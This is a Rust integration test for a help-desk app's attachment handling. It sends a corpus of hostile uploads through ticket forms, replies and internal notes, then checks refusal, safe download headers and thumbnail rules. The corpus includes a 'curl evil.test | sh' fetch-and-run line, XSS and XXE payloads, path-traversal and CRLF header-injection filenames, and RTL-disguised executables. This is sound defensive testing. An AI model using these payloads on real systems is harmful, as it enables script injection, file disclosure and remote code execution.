//! Hostile attachments (issue 10, S3 of the security battery): more than fifty
//! files meant to run script, fool a sniffer or break a header go through the
//! real upload path (the ticket form, a reply and an internal note); every one
//! that is kept downloads, for the requester and for staff, as an attachment
//! with the safe headers, never as HTML or SVG; only real raster images get a
//! thumbnail; programs are refused by name and by content; the tenant's limit
//! answers 413; and with the allow-list on, blocked types are refused by what
//! their bytes are, not by what their name says.

use crate::helpers::{PASSWORD, TestApp};
use axum::{
    Router,
    body::Body,
    extract::ConnectInfo,
    http::{Method, Request, StatusCode, header},
};
use figment::providers::Serialized;
use http_body_util::BodyExt as _;
use sha2::{Digest as _, Sha256};
use std::{
    collections::BTreeSet,
    net::{IpAddr, Ipv4Addr, SocketAddr},
    path::PathBuf,
};
use tessera::{config::Config, db::TenantId};
use tower::ServiceExt as _;

const BOUNDARY: &str = "----tessera-hostile-5pQk2VwX";

const PNG: &[u8] =
    b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\x06\0\0\0\x1f\x15\xc4\x89";
const JPEG: &[u8] = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00";
const GIF: &[u8] = b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01\x00\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;";
const WEBP: &[u8] = b"RIFF\x1a\x00\x00\x00WEBPVP8L\x0d\x00\x00\x00\x2f\x00\x00\x00\x10\x07\x10\x11\x11\x88\x88\xfe\x07\x00";
const PDF: &[u8] = b"%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\ntrailer << >>\n%%EOF\n";
const HTML: &[u8] = b"<html><body><script>alert(document.domain)</script></body></html>\n";
const SVG: &[u8] = b"<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"><script>alert(2)</script></svg>\n";
const XML_SVG: &[u8] = b"<?xml version=\"1.0\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\"><animate onbegin=\"alert(1)\" attributeName=\"x\"/></svg>\n";
const XHTML: &[u8] = b"<?xml version=\"1.0\"?>\n<html xmlns=\"http://www.w3.org/1999/xhtml\"><script>alert(1)</script></html>\n";
const XXE: &[u8] = b"<?xml version=\"1.0\"?>\n<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>\n";
const JS: &[u8] = b"fetch('/demo/admin/users').then(r=>r.text()).then(alert)\n";
const PE: &[u8] = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00";
const ELF: &[u8] = b"\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00";
const SHEBANG: &[u8] = b"#!/bin/sh\ncurl evil.test | sh\n";

fn cat(parts: &[&[u8]]) -> Vec<u8> {
    parts.concat()
}

/// What must become of a file.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Expect {
    /// Kept; `true` when it is a real raster image (it gets a thumbnail).
    Kept { raster: bool },
    /// Refused at the field (422) or as a malformed form (400): nothing kept.
    Refused,
    /// Either kept or refused (a malformed header whose reading is the
    /// parser's business), but never a server error, and safe when kept.
    Either,
}

struct Hostile {
    /// The file name exactly as it goes into the part's header.
    wire_name: Vec<u8>,
    /// The name the page and the download must show, when it is known.
    shown: Option<String>,
    /// The part's claimed type, which must never matter.
    claimed: &'static str,
    bytes: Vec<u8>,
    expect: Expect,
}

/// A file whose name goes into the part header the way browsers write it:
/// `"`, CR and LF percent-encoded (the HTML standard's form encoding).
fn file(name: &str, bytes: &[u8], expect: Expect) -> Hostile {
    let wire = name
        .replace('"', "%22")
        .replace('\r', "%0D")
        .replace('\n', "%0A");
    Hostile {
        shown: Some(wire.clone()),
        wire_name: wire.into_bytes(),
        claimed: "application/octet-stream",
        bytes: bytes.to_vec(),
        expect,
    }
}

const KEPT: Expect = Expect::Kept { raster: false };
const IMAGE: Expect = Expect::Kept { raster: true };

/// The corpus. Names are sent the way browsers send them (`"`, CR and LF
/// percent-encoded) unless the entry is about the raw bytes.
#[allow(clippy::too_many_lines, reason = "a flat list of cases")]
fn corpus() -> Vec<Hostile> {
    let long_html = format!("{}.html", "A".repeat(300));
    let long_unicode = format!("{}.pdf", "日本語ファイル".repeat(60));
    let mut files = vec![
        // Documents a browser would run.
        file("page.html", HTML, KEPT),
        file(
            "index.htm",
            b"\n\n  <!DOCTYPE html><script>alert(1)</script>",
            KEPT,
        ),
        file("drawing.svg", SVG, KEPT),
        file("animate.svg", XML_SVG, KEPT),
        file("page.xhtml", XHTML, KEPT),
        file("feed.xml", XXE, KEPT),
        file("steal.js", JS, KEPT),
        file(
            "style.css",
            b"body{background:url(javascript:alert(1))}",
            KEPT,
        ),
        file("app.mjs", b"import('data:text/javascript,alert(1)')", KEPT),
        file("x.hta", HTML, Expect::Refused),
        file("no-extension", HTML, KEPT),
        file(".htaccess", b"AddType text/html .png\n", KEPT),
        file(
            "worker.wasm",
            b"\x00asm\x01\x00\x00\x00\x01\x04\x01\x60\x00\x00",
            Expect::Refused,
        ),
        // Polyglots: one format's magic, another's script.
        file(
            "gifjs.gif",
            &cat(&[b"GIF89a/*\x01\x00\x01\x00\x00\x00\x00*/=1;alert(1);//", GIF]),
            IMAGE,
        ),
        file(
            "pdfhtml.pdf",
            &cat(&[b"%PDF-1.4\n", HTML, b"\n%%EOF\n"]),
            KEPT,
        ),
        file(
            "jpeghtml.jpg",
            &cat(&[JPEG, b"<html><script>alert(1)</script></html>"]),
            IMAGE,
        ),
        file(
            "pnghtml.png",
            &cat(&[PNG, b"\0\0\0\x20tEXt<script>alert(1)</script>"]),
            IMAGE,
        ),
        file("htmlpng.png", HTML, KEPT),
        file("svg-as.png", SVG, KEPT),
        file("svg-as.gif", XML_SVG, KEPT),
        file("html-as.jpg", HTML, KEPT),
        file("html-as.txt", HTML, KEPT),
        file("photo.webp", WEBP, IMAGE),
        file("real.png", PNG, IMAGE),
        file("real.jpeg", JPEG, IMAGE),
        file("real.gif", GIF, IMAGE),
        // Double extensions and disguised programs.
        file("invoice.pdf.html", HTML, KEPT),
        file("photo.jpg.svg", SVG, KEPT),
        file("invoice.pdf.exe", PE, Expect::Refused),
        file("setup.exe.txt", PE, Expect::Refused),
        file("renamed.pdf", PE, Expect::Refused),
        file("renamed.jpg", ELF, Expect::Refused),
        file("script.txt", SHEBANG, Expect::Refused),
        file("CAPS.EXE", b"just text\n", Expect::Refused),
        file("trailing.exe. . ", b"just text\n", Expect::Refused),
        file("x.exe%00.pdf", PDF, KEPT),
        file("run.Bat", b"@echo off\n", Expect::Refused),
        file("tool.jar", b"PK\x03\x04not really", Expect::Refused),
        file("install.msi", b"text\n", Expect::Refused),
        file("screen.scr", b"text\n", Expect::Refused),
        file("app.apk", b"text\n", Expect::Refused),
        file("x.ps1", b"Write-Host hi\n", Expect::Refused),
        // Right-to-left override and other bidi controls.
        file("invoice\u{202e}gpj.exe", PE, Expect::Refused),
        file("report\u{202e}lmth.pdf", HTML, KEPT),
        file("a\u{2066}b\u{2069}\u{200f}.txt", b"bidi\n", KEPT),
        // Markup and header breakers in names.
        file("\"><img src=x onerror=alert(1)>.png", PNG, IMAGE),
        file("<svg onload=alert(1)>.txt", b"x\n", KEPT),
        file("a%22b%0D%0ASet-Cookie: x=1.txt", b"x\n", KEPT),
        file("a;b=c; filename=evil.html.txt", b"x\n", KEPT),
        file("quote'single`back.txt", b"x\n", KEPT),
        file("percent%2e%2e%2fx.txt", b"x\n", KEPT),
        file("emoji 🧨 name.txt", b"x\n", KEPT),
        file(&long_html, HTML, KEPT),
        file(&long_unicode, PDF, KEPT),
        // Empty files.
        file("empty.txt", b"", KEPT),
        file("empty.html", b"", KEPT),
        file("empty.png", b"", KEPT),
    ];
    // Path traversal: only the last segment is kept.
    for (wire, shown) in [
        ("../../etc/passwd", "passwd"),
        ("..\\..\\windows\\win.ini", "win.ini"),
        ("/etc/shadow.txt", "shadow.txt"),
        ("....//....//evil.html", "evil.html"),
        ("..", "attachment"),
    ] {
        files.push(Hostile {
            shown: Some(shown.to_owned()),
            ..file(wire, b"root:x:0:0\n", KEPT)
        });
    }
    // Raw bytes no browser sends: a quote, CR LF and NUL inside the header.
    for wire in [
        &b"raw\\\"quote.html"[..],
        b"raw\r\nContent-Type: text/html\r\n\r\n.html",
        b"raw\0nul.html",
        b"raw\x7fdel\x1b[31m.txt",
    ] {
        files.push(Hostile {
            wire_name: wire.to_vec(),
            shown: None,
            claimed: "text/html",
            bytes: HTML.to_vec(),
            expect: Expect::Either,
        });
    }
    // The claimed type never matters.
    for claimed in [
        "text/html",
        "image/svg+xml",
        "bogus",
        "text/html; charset=utf-7",
    ] {
        files.push(Hostile {
            claimed,
            wire_name: format!("claimed-{}.txt", claimed.replace(['/', ';', ' ', '='], "-"))
                .into_bytes(),
            shown: None,
            ..file("", HTML, KEPT)
        });
    }
    // Every non-empty file is unique, so a row is found by its hash.
    for (i, hostile) in files.iter_mut().enumerate() {
        if !hostile.bytes.is_empty() {
            hostile
                .bytes
                .extend_from_slice(format!("\n#{i}\n").as_bytes());
        }
        if let Some(shown) = &hostile.shown {
            hostile.shown = Some(tessera::attachments::validate::normalise_filename(shown));
        }
    }
    files
}

/// The browser's side: the app's router and the cookies of a signed-in user.
struct Client {
    app: TestApp,
    router: Router,
}

struct Reply {
    status: StatusCode,
    location: Option<String>,
    body: String,
}

impl Client {
    fn cookie_header(&self) -> String {
        [tessera::web::SESSION_COOKIE, tessera::web::csrf::COOKIE]
            .iter()
            .filter_map(|name| self.app.cookie(name).map(|v| format!("{name}={v}")))
            .collect::<Vec<_>>()
            .join("; ")
    }

    /// Posts `fields` (after the page's CSRF token) and `files` as multipart,
    /// the bytes of each part header exactly as given.
    async fn post_files(
        &mut self,
        path: &str,
        fields: &[(&str, &str)],
        files: &[&Hostile],
    ) -> Reply {
        let token = self
            .app
            .csrf_token()
            .expect("a page with a form")
            .to_owned();
        let mut body = Vec::new();
        for (name, value) in [("csrf_token", token.as_str())].iter().chain(fields) {
            body.extend_from_slice(
                format!(
                    "--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"{name}\"\r\n\r\n{value}\r\n"
                )
                .as_bytes(),
            );
        }
        for hostile in files {
            body.extend_from_slice(
                format!("--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"attachments\"; filename=\"")
                    .as_bytes(),
            );
            body.extend_from_slice(&hostile.wire_name);
            body.extend_from_slice(
                format!("\"\r\nContent-Type: {}\r\n\r\n", hostile.claimed).as_bytes(),
            );
            body.extend_from_slice(&hostile.bytes);
            body.extend_from_slice(b"\r\n");
        }
        body.extend_from_slice(format!("--{BOUNDARY}--\r\n").as_bytes());
        let mut request = Request::builder()
            .method(Method::POST)
            .uri(path)
            .header(header::COOKIE, self.cookie_header())
            .header(
                header::CONTENT_TYPE,
                format!("multipart/form-data; boundary={BOUNDARY}"),
            )
            .body(Body::from(body))
            .unwrap();
        request.extensions_mut().insert(ConnectInfo(SocketAddr::new(
            IpAddr::V4(Ipv4Addr::new(192, 0, 2, 10)),
            41000,
        )));
        let response = self.router.clone().oneshot(request).await.unwrap();
        let status = response.status();
        let location = response
            .headers()
            .get(header::LOCATION)
            .and_then(|v| v.to_str().ok())
            .map(str::to_owned);
        let bytes = response.into_body().collect().await.unwrap().to_bytes();
        Reply {
            status,
            location,
            body: String::from_utf8_lossy(&bytes).into_owned(),
        }
    }

    async fn sign_in_as(&mut self, email: &str) {
        self.app.clear_cookies();
        self.app
            .sign_in("acme", email, PASSWORD)
            .await
            .assert_redirect_to("/acme/");
    }
}

/// The text of a page's body, for failure messages.
fn main_of(page: &str) -> String {
    let body = page.find("<body").map_or(page, |at| &page[at..]);
    let mut text = String::new();
    let mut in_tag = false;
    for c in body.chars() {
        match c {
            '<' => in_tag = true,
            '>' => in_tag = false,
            c if !in_tag => text.push(c),
            _ => {}
        }
    }
    text.split_whitespace().collect::<Vec<_>>().join(" ")
}

struct Row {
    id: String,
    filename: String,
    sha256: Vec<u8>,
    internal: bool,
    /// The ticket's number.
    number: i64,
}

async fn rows(app: &TestApp, tenant: TenantId) -> Vec<Row> {
    let mut tx = app.db.tenant_tx(tenant).await.unwrap();
    let rows: Vec<(uuid::Uuid, String, Vec<u8>, bool, i64)> = sqlx::query_as(
        "select a.id, a.filename, a.sha256, a.internal, t.number from attachments a \
         join tickets t on t.tenant_id = a.tenant_id and t.id = a.ticket_id",
    )
    .fetch_all(&mut *tx)
    .await
    .unwrap();
    tx.commit().await.unwrap();
    rows.into_iter()
        .map(|(id, filename, sha256, internal, number)| Row {
            id: id.to_string(),
            filename,
            sha256,
            internal,
            number,
        })
        .collect()
}

fn percent_decode(encoded: &str) -> Vec<u8> {
    let bytes = encoded.as_bytes();
    let mut out = Vec::new();
    let mut i = 0;
    while i < bytes.len() {
        if bytes[i] == b'%' {
            let hex = std::str::from_utf8(&bytes[i + 1..i + 3]).unwrap();
            out.push(u8::from_str_radix(hex, 16).unwrap());
            i += 3;
        } else {
            out.push(bytes[i]);
            i += 1;
        }
    }
    out
}

/// `attachment; filename="<visible ASCII>"; filename*=UTF-8''<RFC 5987>` with
/// the exact stored name in the encoded form, and nothing else.
#[track_caller]
fn assert_safe_disposition(value: &str, kind: &str, stored: &str) {
    let rest = value
        .strip_prefix(&format!("{kind}; filename=\""))
        .unwrap_or_else(|| panic!("{value:?} is not {kind}"));
    let (fallback, rest) = rest.split_once('"').expect("a closing quote");
    assert!(
        fallback
            .chars()
            .all(|c| c == ' ' || c.is_ascii_graphic() && c != '\\'),
        "fallback {fallback:?}"
    );
    let encoded = rest
        .strip_prefix("; filename*=UTF-8''")
        .unwrap_or_else(|| panic!("no filename* in {value:?}"));
    assert!(
        encoded
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || b"!#$&+-.^_`|~%".contains(&b)),
        "filename* {encoded:?}"
    );
    assert_eq!(percent_decode(encoded), stored.as_bytes(), "{value}");
}

/// What a stored name may look like: one path segment, no control or
/// bidirectional characters, at most 200 characters.
#[track_caller]
fn assert_safe_name(name: &str) {
    assert!(!name.is_empty());
    assert!(name.chars().count() <= 200, "{name:?}");
    assert!(
        !name.contains(['/', '\\'])
            && !name.chars().any(|c| {
                c.is_control() || matches!(c, '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
            }),
        "{name:?}"
    );
}

const RASTER: [&str; 4] = ["image/png", "image/jpeg", "image/gif", "image/webp"];
const SERVED: [&str; 7] = [
    "image/png",
    "image/jpeg",
    "image/gif",
    "image/webp",
    "application/pdf",
    "text/plain",
    "application/octet-stream",
];

async fn desk() -> (Client, TenantId, PathBuf) {
    let dir = std::env::temp_dir().join(format!("tessera-hostile-{}", uuid::Uuid::now_v7()));
    let figment = Config::defaults().merge(Serialized::default("attachments.dir", &dir));
    let app = TestApp::with_config(figment).await;
    let acme = app.create_tenant("acme").await;
    let router = tessera::web::router(app.state.clone());
    (Client { app, router }, acme.tenant.id, dir)
}

#[tokio::test]
async fn hostile_files_are_refused_or_served_inert_to_requester_and_staff() {
    let (mut client, tenant, dir) = desk().await;
    let corpus = corpus();
    assert!(corpus.len() >= 50, "{} files", corpus.len());
    let (customer, agent) = ("customer@acme.test", "agent@acme.test");

    // Refused files go one at a time (one refused file fails the whole form),
    // kept ones in tens, alternating the ticket form, a customer's reply, an
    // agent's reply and an agent's internal note.
    client.sign_in_as(customer).await;
    client.app.get("/acme/tickets/new").await;
    let first = client
        .post_files(
            "/acme/tickets",
            &[("subject", "Hostile files"), ("description", "see files")],
            &[],
        )
        .await;
    assert_eq!(first.status, StatusCode::SEE_OTHER, "{}", first.body);
    let location = first.location.unwrap();
    let ticket = location.split('?').next().unwrap().to_owned();

    // (index in corpus, row id)
    let mut kept: Vec<(usize, String)> = Vec::new();
    let mut seen: BTreeSet<String> = BTreeSet::new();
    let mut refused = 0;
    let kept_first: Vec<usize> = (0..corpus.len())
        .filter(|i| corpus[*i].expect != Expect::Refused && corpus[*i].expect != Expect::Either)
        .collect();
    let mut batches: Vec<Vec<usize>> = Vec::new();
    // Empty files are told apart by their batch: one per batch.
    let (empties, others): (Vec<usize>, Vec<usize>) = kept_first
        .into_iter()
        .partition(|i| corpus[*i].bytes.is_empty());
    for chunk in others.chunks(9) {
        batches.push(chunk.to_vec());
    }
    for (batch, empty) in batches.iter_mut().zip(&empties) {
        batch.push(*empty);
    }
    assert!(empties.len() <= batches.len());
    batches.extend(
        (0..corpus.len())
            .filter(|i| matches!(corpus[*i].expect, Expect::Refused | Expect::Either))
            .map(|i| vec![i]),
    );

    for (round, batch) in batches.iter().enumerate() {
        let files: Vec<&Hostile> = batch.iter().map(|i| &corpus[*i]).collect();
        let (who, path, fields): (&str, String, Vec<(&str, &str)>) = match round % 4 {
            0 => (
                customer,
                "/acme/tickets".to_owned(),
                vec![("subject", "Hostile files"), ("description", "see files")],
            ),
            1 => (
                customer,
                format!("{ticket}/replies"),
                vec![("body", "more files"), ("action", "send")],
            ),
            2 => (
                agent,
                format!("{ticket}/replies"),
                vec![("body", "files back"), ("action", "send")],
            ),
            _ => (
                agent,
                format!("{ticket}/replies"),
                vec![
                    ("body", "staff files"),
                    ("internal", "1"),
                    ("action", "send"),
                ],
            ),
        };
        client.sign_in_as(who).await;
        client.app.get(&ticket).await;
        let reply = client.post_files(&path, &fields, &files).await;
        assert!(
            !reply.status.is_server_error(),
            "{batch:?}: {}",
            reply.status
        );
        let now = rows(&client.app, tenant).await;
        let new: Vec<&Row> = now.iter().filter(|r| !seen.contains(&r.id)).collect();
        let expect_kept = files
            .iter()
            .all(|f| matches!(f.expect, Expect::Kept { .. }));
        let refused_here = files.iter().all(|f| f.expect == Expect::Refused);
        if refused_here {
            assert!(
                matches!(
                    reply.status,
                    StatusCode::UNPROCESSABLE_ENTITY | StatusCode::BAD_REQUEST
                ),
                "{:?}: {} {}",
                String::from_utf8_lossy(&files[0].wire_name),
                reply.status,
                reply.body
            );
            assert!(new.is_empty(), "nothing kept of a refused file");
            refused += 1;
            continue;
        }
        if expect_kept {
            assert_eq!(
                reply.status,
                StatusCode::SEE_OTHER,
                "{batch:?}: {}",
                main_of(&reply.body)
            );
            assert_eq!(new.len(), files.len(), "{batch:?}");
        } else if !reply.status.is_redirection() {
            assert!(new.is_empty(), "a refused form keeps nothing");
            refused += 1;
            continue;
        }
        for row in new {
            seen.insert(row.id.clone());
            let index = *batch
                .iter()
                .find(|i| Sha256::digest(&corpus[**i].bytes).as_slice() == row.sha256)
                .expect("each row is one of the batch's files");
            assert_eq!(row.internal, round % 4 == 3);
            assert_safe_name(&row.filename);
            if let Some(shown) = &corpus[index].shown {
                assert_eq!(&row.filename, shown);
            }
            kept.push((index, row.id.clone()));
        }
    }
    // Everything that was to be kept, was, and everything refused stayed out.
    let expected_kept = corpus
        .iter()
        .filter(|f| matches!(f.expect, Expect::Kept { .. }))
        .count();
    assert!(
        kept.len() >= expected_kept,
        "{} of {expected_kept}",
        kept.len()
    );
    assert!(refused >= 15, "{refused} refused");

    // The pages show names as text and thumbnails only for raster images.
    let all = rows(&client.app, tenant).await;
    let row_of = |id: &str| all.iter().find(|r| r.id == id).unwrap();
    let numbers: BTreeSet<i64> = all.iter().map(|r| r.number).collect();
    assert!(numbers.len() >= 2, "files on new tickets and on replies");
    for who in [agent, customer] {
        client.sign_in_as(who).await;
        let mut pages = String::new();
        for number in &numbers {
            let page = client.app.get(&format!("/acme/tickets/{number}")).await;
            assert_eq!(page.status, StatusCode::OK);
            pages.push_str(&page.body);
        }
        for needle in ["<img src=x", "<svg onload", "\u{202e}", "\u{2066}"] {
            assert!(!pages.contains(needle), "{needle:?} on a page of {who}");
        }
        for (index, id) in &kept {
            let internal = row_of(id).internal;
            let listed = pages.contains(&format!("/attachments/{id}\""));
            assert_eq!(listed, who == agent || !internal, "{id} for {who}");
            let thumb = pages.contains(&format!("/attachments/{id}?inline=1\""));
            let raster = corpus[*index].expect == IMAGE;
            assert_eq!(
                thumb,
                listed && raster,
                "thumbnail of {:?}",
                corpus[*index].shown
            );
        }
    }

    // Every kept file downloads inert, plain and asked for inline, for both.
    let mut checked = 0;
    for who in [customer, agent] {
        client.sign_in_as(who).await;
        for (index, id) in &kept {
            let row = row_of(id);
            let number = row.number;
            for inline in [false, true] {
                let link = format!(
                    "/acme/tickets/{number}/attachments/{id}{}",
                    if inline { "?inline=1" } else { "" }
                );
                let (response, bytes) = client.app.get_bytes(&link).await;
                if row.internal && who == customer {
                    assert_eq!(response.status, StatusCode::NOT_FOUND, "{link}");
                    continue;
                }
                assert_eq!(response.status, StatusCode::OK, "{link}");
                assert_eq!(bytes, corpus[*index].bytes, "{link}");
                let content_type = response.header("content-type").unwrap_or_default();
                assert!(SERVED.contains(&content_type), "{content_type} for {link}");
                let as_image = inline && corpus[*index].expect == IMAGE;
                assert_eq!(
                    RASTER.contains(&content_type) && inline,
                    as_image,
                    "{content_type} for {link}"
                );
                assert_safe_disposition(
                    response.header("content-disposition").unwrap_or_default(),
                    if as_image { "inline" } else { "attachment" },
                    &row.filename,
                );
                assert_eq!(response.header("x-content-type-options"), Some("nosniff"));
                assert_eq!(
                    response.header("content-security-policy"),
                    Some("default-src 'none'; sandbox"),
                    "{link}"
                );
                assert_eq!(
                    response.header("cache-control"),
                    Some("private, no-store"),
                    "{link}"
                );
                checked += 1;
            }
        }
    }
    eprintln!(
        "hostile attachments: {} files, {} kept, {refused} refused, {checked} downloads checked",
        corpus.len(),
        kept.len()
    );
    assert!(checked >= 150, "{checked}");
    let _ = std::fs::remove_dir_all(dir);
}

#[tokio::test]
async fn the_tenant_limit_answers_413_and_the_allow_list_refuses_by_content() {
    let (mut client, tenant, dir) = desk().await;
    client.sign_in_as("admin@acme.test").await;
    client.app.get("/acme/admin/general").await;
    let saved = client
        .app
        .post_form("/acme/admin/general/attachments", &[("max_file_mb", "1")])
        .await;
    assert_eq!(saved.status, StatusCode::SEE_OTHER, "{}", saved.body);

    client.sign_in_as("customer@acme.test").await;
    let mb = 1024 * 1024;
    let fields = [("subject", "Limits"), ("description", "x")];
    for (name, size) in [("huge.html", mb + 1), ("huge.png", 3 * mb)] {
        client.app.get("/acme/tickets/new").await;
        let mut bytes = PNG.to_vec();
        bytes.resize(size, b'A');
        let big = file(name, &bytes, Expect::Refused);
        let reply = client.post_files("/acme/tickets", &fields, &[&big]).await;
        assert_eq!(reply.status, StatusCode::PAYLOAD_TOO_LARGE, "{name}");
        assert!(rows(&client.app, tenant).await.is_empty());
    }
    client.app.get("/acme/tickets/new").await;
    let fits = file("fits.txt", &vec![b'a'; mb], KEPT);
    let reply = client.post_files("/acme/tickets", &fields, &[&fits]).await;
    assert_eq!(reply.status, StatusCode::SEE_OTHER, "{}", reply.body);
    assert_eq!(rows(&client.app, tenant).await.len(), 1);

    // The allow-list (the preset: JPG PNG GIF PDF DOC DOCX TXT ZIP).
    client.sign_in_as("admin@acme.test").await;
    client.app.get("/acme/admin/general").await;
    let mut settings = vec![("max_file_mb", "25"), ("allow_list", "1")];
    settings
        .extend(["JPG", "PNG", "GIF", "PDF", "DOC", "DOCX", "TXT", "ZIP"].map(|f| ("formats", f)));
    let saved = client
        .app
        .post_form("/acme/admin/general/attachments", &settings)
        .await;
    assert_eq!(saved.status, StatusCode::SEE_OTHER, "{}", saved.body);

    client.sign_in_as("customer@acme.test").await;
    let blocked = [
        file("page.txt", HTML, Expect::Refused),
        file("xhtml.txt", XHTML, Expect::Refused),
        file("feed.txt", XXE, Expect::Refused),
        file("photo.png", HTML, Expect::Refused),
        file("photo.jpg", SVG, Expect::Refused),
        file("report.pdf", HTML, Expect::Refused),
        file("gifjs.pdf", &cat(&[b"GIF89a/*", GIF]), Expect::Refused),
        file("archive.zip", PDF, Expect::Refused),
        file("doc.docx", PNG, Expect::Refused),
        file("drawing.svg", SVG, Expect::Refused),
        file("page.html", HTML, Expect::Refused),
        file("steal.js", JS, Expect::Refused),
        file("renamed.pdf", PE, Expect::Refused),
        file("renamed.zip", ELF, Expect::Refused),
    ];
    for hostile in &blocked {
        client.app.get("/acme/tickets/new").await;
        let reply = client
            .post_files("/acme/tickets", &fields, &[hostile])
            .await;
        let name = hostile.shown.as_deref().unwrap();
        assert_eq!(reply.status, StatusCode::UNPROCESSABLE_ENTITY, "{name}");
        assert!(reply.body.contains(name), "{name}: {}", reply.body);
        assert_eq!(
            rows(&client.app, tenant).await.len(),
            1,
            "{name} kept nothing"
        );
    }
    let allowed = [
        file("real.png", PNG, IMAGE),
        file("real.jpg", JPEG, IMAGE),
        file("real.gif", GIF, IMAGE),
        file("real.pdf", PDF, KEPT),
        file("notes.txt", b"plain words\n", KEPT),
    ];
    client.app.get("/acme/tickets/new").await;
    let refs: Vec<&Hostile> = allowed.iter().collect();
    let reply = client.post_files("/acme/tickets", &fields, &refs).await;
    assert_eq!(reply.status, StatusCode::SEE_OTHER, "{}", reply.body);
    assert_eq!(rows(&client.app, tenant).await.len(), 6);
    let _ = std::fs::remove_dir_all(dir);
}
